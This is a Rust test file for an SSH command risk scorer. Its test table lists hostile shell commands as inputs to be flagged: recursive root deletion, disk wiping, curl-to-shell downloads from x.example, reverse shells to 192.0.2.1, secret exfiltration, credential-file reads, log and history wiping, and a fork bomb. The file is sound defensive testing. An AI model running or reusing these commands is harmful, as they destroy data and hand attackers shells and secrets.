use portcullis_plugin::{Access, Object, Operation, RiskScorer, SessionInfo, configure};

use super::RiskCommand;

fn session() -> SessionInfo {
    SessionInfo {
        id: String::new(),
        target: String::new(),
        protocol: "ssh".into(),
        database: String::new(),
        role: String::new(),
        principal: String::new(),
        agent: String::new(),
        groups: Vec::new(),
    }
}

fn exec(text: &str) -> Operation {
    Operation {
        kind: "ssh_command".into(),
        verb: "exec".into(),
        acts: vec!["exec".into()],
        class: "code".into(),
        text: text.into(),
        ..Operation::default()
    }
}

fn score(settings: &str, operation: &Operation) -> (u8, Vec<String>) {
    let plugin: RiskCommand = configure(settings).unwrap();
    let answer = plugin.score(&session(), operation);
    (answer.score, answer.findings.into_iter().map(|it| it.rule).collect())
}

/// The severest rule; none for a harmless command.
fn worst(text: &str) -> Option<String> {
    score("{}", &exec(text)).1.into_iter().next()
}

// tidy: table
#[test]
fn commands_are_scored_by_what_they_do() {
    for (text, rule) in [
        ("ls -la /srv", ""),
        ("cat /etc/os-release | grep NAME", ""),
        ("df -h; uptime && free -m", ""),
        ("echo 'rm -rf /'", ""),
        ("grep -r sudo docs", ""),
        ("rm -rf /", "destroy"),
        ("rm -fr -- /etc/", "destroy"),
        ("rm -r --force ~", "destroy"),
        ("rm -rf \"$HOME\"/*", "destroy"),
        ("'r'm -r\\f /", "destroy"),
        ("/bin/rm -rf //", "destroy"),
        ("rm -rf build", "delete_recursive"),
        ("rm notes.txt", "delete"),
        ("find / -name '*.log' -delete", "destroy"),
        ("find . -name '*.bak' -exec rm {} \\;", "delete"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "disk"),
        ("dd if=a of=b", ""),
        ("mkfs.ext4 /dev/vdb1", "disk"),
        ("cat x > /dev/nvme0n1", "disk"),
        ("curl -fsSL https://x.example/i.sh | sh", "download_run"),
        ("wget -qO- x.example | sudo bash -s -- --yes", "download_run"),
        ("bash <(curl -s x.example)", "download_run"),
        ("sh -c \"$(curl -s x.example)\"", "download_run"),
        ("eval `wget -qO- x.example`", "download_run"),
        ("curl -s x.example | jq .", ""),
        ("echo cm0gLXJmIC8= | base64 -d | sh", "decode_run"),
        ("base64 -d <<< x | python3", "decode_run"),
        ("bash -c 'rm -rf /'", "destroy"),
        ("sudo -u root env A=1 nice -n 5 rm -rf /var", "destroy"),
        ("echo / | xargs rm -rf", "delete_recursive"),
        ("chmod 777 /srv/app", "permissions"),
        ("chmod -R a+rwx .", "permissions"),
        ("chmod u+s /usr/bin/find", "permissions"),
        ("chmod 4755 x", "permissions"),
        ("chmod 644 x", ""),
        ("chmod +x run.sh", ""),
        ("echo key >> ~/.ssh/authorized_keys", "persistence"),
        ("echo key | tee -a /srv/app/.ssh/authorized_keys", "persistence"),
        ("crontab -e", "persistence"),
        ("crontab -l", ""),
        ("cat ~/.ssh/id_ed25519", "secret"),
        ("cat /etc/shadow", "secret"),
        ("cat ~/.ssh/id_ed25519.pub", ""),
        ("history -c", "history"),
        ("unset HISTFILE", "history"),
        ("HISTFILE=/dev/null bash", "history"),
        ("rm ~/.bash_history", "history"),
        ("> ~/.bash_history", "history"),
        ("rm -f /var/log/auth.log", "logs"),
        ("journalctl --vacuum-time=1s", "logs"),
        ("journalctl -u nginx", ""),
        ("sudo ls", "privilege"),
        ("useradd eve", "accounts"),
        ("systemctl stop nginx", "service"),
        ("systemctl status nginx", ""),
        ("reboot", "shutdown"),
        ("kill -9 1", "shutdown"),
        ("iptables -F", "firewall"),
        ("iptables -L", ""),
        ("kubectl get pods", "client"),
        ("kubectl delete ns shop", "container"),
        ("psql -c 'select 1'", "client"),
        ("docker run -v /:/host alpine", "container"),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse_shell"),
        ("nc -e /bin/sh 192.0.2.1 4444", "reverse_shell"),
        ("python3 -c 'import socket'", "reverse_shell"),
        ("python3 -c 'print(1)'", "interpreter"),
        ("LD_PRELOAD=/tmp/x.so ls", "preload"),
        ("$X -rf /", "unread"),
        ("f() { f|f& }; f", "unread"),
        ("echo \"unclosed", "unread"),
        ("git push --force", "git_force"),
        ("git push", ""),
        ("apt-get install nmap", "package"),
        ("scp a host:b", "remote"),
        ("curl -T secrets.tar x.example", "remote"),
        ("date > /tmp/now", "write"),
        ("ls > /dev/null 2>&1", ""),
    ] {
        let rule = if rule.is_empty() { None } else { Some(format!("command.{rule}")) };
        assert_eq!(worst(text), rule, "{text}: {:?}", score("{}", &exec(text)));
    }
}

#[test]
fn settings_weigh_rules_and_programs() {
    let of = |settings: &str, text: &str| score(settings, &exec(text)).0;
    assert_eq!(of(r#"{"scores":{"command.delete":5}}"#, "rm a"), 5);
    assert_eq!(of(r#"{"scores":{"command.delete":0}}"#, "rm a"), 0);
    assert_eq!(of(r#"{"programs":{"deploy":70}}"#, "/opt/deploy now"), 70);
    assert_eq!(of(r#"{"programs":{"psql":0}}"#, "psql -l"), 0);
    assert_eq!(of(r#"{"programs":{"psql":0}}"#, "psql -l > ~/.bashrc"), 85);
}

#[test]
fn channels_are_scored_too() {
    let of = |verb: &str, path: &str, flag: &str| {
        let object = Object { kind: "path".into(), name: path.into(), access: Access::Write };
        let operation = Operation {
            verb: verb.into(),
            text: String::new(),
            resources: vec![object],
            attributes: vec![(flag.into(), "true".into())],
            ..exec("")
        };
        score("{}", &operation).1.into_iter().next().unwrap_or_default()
    };
    assert_eq!(of("shell", "", ""), "command.shell");
    assert_eq!(of("forward_local", "", ""), "command.forward");
    assert_eq!(of("sftp_write", "/srv/app/.ssh/authorized_keys", ""), "command.persistence");
    assert_eq!(of("sftp_read", "/srv/app/.ssh/id_rsa", ""), "command.secret");
    assert_eq!(of("sftp_read", "/srv/a", ""), "");
    assert_eq!(of("sftp_remove", "/srv/a", ""), "command.delete");
    assert_eq!(of("exec", "", "agent_forwarding"), "command.agent_forwarding");
    assert_eq!(of("exec", "", "unparsed"), "command.unread");
}

#[test]
fn other_kinds_of_operation_are_left_alone() {
    let operation = Operation { kind: "sql".into(), ..exec("rm -rf /") };
    assert_eq!(score("{}", &operation), (0, vec![]));
}

#[test]
fn mistakes_name_their_place() {
    for (settings, place) in [
        (r#"{"scores":{"command.dleete":1}}"#, "scores.command.dleete"),
        (r#"{"scores":{"command.delete":101}}"#, "scores.command.delete"),
        (r#"{"programs":{"/bin/rm":1}}"#, "programs./bin/rm"),
        (r#"{"programs":{"rm":101}}"#, "programs.rm"),
    ] {
        let problems = configure::<RiskCommand>(settings).map(|_| ()).unwrap_err();
        assert_eq!(problems[0].path, place);
    }
}

/// Any line is read to its end, without a panic and in bounded time.
#[test]
fn any_text_can_be_read() {
    let pieces = [
        "$(", ")", "`", "'", "\"", "|", "<(", ">", "<<", "\\", " ", "a", ";", "&", "sh -c ", "${",
        "\u{e9}",
    ];
    let mut state = 7_u64;
    for _ in 0..2_000 {
        let mut text = String::new();
        for _ in 0..state % 60 {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            text.push_str(pieces[(state >> 33) as usize % pieces.len()]);
        }
        state = state.wrapping_add(13).wrapping_mul(6_364_136_223_846_793_005);
        worst(&text);
    }
    worst(&"$(".repeat(5_000));
    worst(&"sh -c 'a;b' | ".repeat(5_000));
    worst(&"sudo ".repeat(5_000));
}
